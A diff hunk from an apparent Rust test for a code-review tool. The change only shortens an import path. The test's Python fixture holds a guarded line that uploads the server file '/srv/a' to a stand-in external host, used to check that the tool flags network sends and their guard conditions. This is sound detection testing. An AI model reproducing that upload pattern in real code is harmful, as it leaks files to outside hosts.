@@ -93,7 +93,7 @@ b.ship()
     // What nobody writes decides: what it excludes is read aside, and told with the condition.
     let text = "import requests\n\nclass B:\n    def __init__(self):\n        self.never = 0\n\n    def ship(self):\n        if self.never:\n            requests.post('https://files.example.invalid/a', data=open('/srv/a').read())\n";
     assert!(self::paths(text).contains("network.send"));
-    let place = crate::place::Place::new().file("never.py", text);
+    let place = Place::new().file("never.py", text);
     let review = place.run(&["review", "never.py", "--format", "json", "--fail-on", "none"]).json();
     let guard = &review["paths"][0]["guards"][0];
     assert_eq!((guard["text"].as_str(), guard["holds"].as_bool()), (Some("self.never"), Some(true)), "{review}");
